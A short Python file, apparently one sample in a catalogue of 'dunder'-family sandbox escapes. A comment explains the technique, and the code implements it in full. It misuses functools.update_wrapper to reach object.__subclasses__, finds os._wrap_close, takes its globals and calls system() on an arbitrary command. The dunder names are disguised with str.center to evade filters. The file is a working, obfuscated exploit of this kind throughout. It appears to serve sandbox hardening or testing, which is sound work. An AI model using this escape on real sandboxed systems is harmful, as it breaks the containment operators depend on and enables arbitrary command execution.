# family: dunder
# Escape: update_wrapper's "updated" step calls getattr(wrapper, n).update(getattr(wrapped, n)); a Grab object
# with an update method captures type.__subclasses__ of object, so the tool walks every class in the process
# (e.g. to find os._wrap_close and its globals).
import functools
import operator
import types


class Grab:
    def update(self, value):
        self.value = value


def tool(cmd: str):
    sub, glb = "subclasses".center(14, "_"), "globals".center(11, "_")
    grab, space = Grab(), {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{sub: grab}), object, (), (sub,))
    wrap_close = [c for c in grab.value() if c.__name__ == "_wrap_close"][0]
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{glb: space}), wrap_close.__init__, (), (glb,))
    return space["system"](cmd)
